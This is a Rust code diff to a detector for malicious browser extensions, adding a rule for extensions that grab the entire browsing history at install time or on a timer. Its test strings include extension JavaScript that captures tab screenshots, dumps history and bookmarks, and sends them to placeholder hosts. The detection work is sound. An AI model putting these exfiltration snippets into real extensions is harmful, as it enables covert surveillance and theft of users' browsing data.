@@ -3,6 +3,7 @@
 use crate::facts::Atom;
 use crate::signals::near::Near;
 use crate::signals::{Evidence, Held, Signal, one};
+use crate::stream::{Item, Kind};
 use crate::{ClassSet, Severity};
 
 pub(super) const SIGNAL: Signal = Signal {
@@ -18,8 +19,10 @@ pub(super) const SIGNAL: Signal = Signal {
         with: &[
             "setInterval(()=>{chrome.tabs.captureVisibleTab(null,{format:'jpeg'},p=>{fetch('https://img.example/u',{method:'POST',body:p})})},3000)",
             "chrome.history.search({text:'',maxResults:100000},h=>chrome.bookmarks.getTree(b=>fetch('https://up.example/p',{method:'POST',body:JSON.stringify([h,b])})))",
+            "chrome.runtime.onInstalled.addListener(()=>{chrome.history.search({text:'',startTime:0,maxResults:100000},h=>{navigator.sendBeacon('https://log.example/h',JSON.stringify(h.map(x=>x.url)))})})",
         ],
         without: &[
+            "chrome.runtime.onInstalled.addListener(()=>{chrome.history.search({text:'docs',maxResults:10},h=>{fetch('https://log.example/h',{method:'POST',body:h.length})})})",
             "chrome.action.onClicked.addListener(()=>{chrome.tabs.captureVisibleTab(null,{format:'png'},p=>{fetch('https://img.example/u',{method:'POST',body:p})})})",
             "chrome.tabs.onUpdated.addListener(f);chrome.tabs.captureVisibleTab(null,{format:'png'},p=>{save(p)})",
             "chrome.bookmarks.getTree(b=>fetch('https://sync.example/p',{method:'POST',body:JSON.stringify(b)}))",
@@ -68,8 +71,23 @@ fn collects(evidence: &Evidence<'_>, held: Held) -> bool {
     ];
     let private = kinds[..3].iter().any(|kind| *kind);
     let leaves = [Atom::SentAbroad, Atom::Post, Atom::PostMethod, Atom::Beacon];
-    private
+    let many = kinds.iter().filter(|kind| **kind).count() >= 2;
+    (private && many || kinds[0] && is_all_history(near))
         && near.has_fact(&leaves)
-        && kinds.iter().filter(|kind| **kind).count() >= 2
         && near.has_text(&["https://", "http://"])
+}
+
+/// Whether all of the history is asked for, and nobody asks the extension for it: any text, many results, when it is installed or again
+/// and again.
+fn is_all_history(near: Near<'_>) -> bool {
+    let asked = near.words(&["search"]).filter(|at| near.word(at.wrapping_sub(1)) == "history");
+    let whole = |at: usize| {
+        let given = at + 1..at + 24;
+        let value = |key: &'static str| given.clone().find(|at| near.word(*at) == key).map(|at| at + 2);
+        let number = |at: usize| near.item(at).and_then(Item::number);
+        value("text").is_some_and(|at| near.kind(at) == Some(Kind::Str) && near.word(at).is_empty())
+            && value("maxResults").and_then(number).is_some_and(|most| most >= 1000.0)
+    };
+    asked.into_iter().any(whole)
+        && near.has_word(&["onInstalled", "onStartup", "setInterval", "onAlarm", "onVisited"])
 }
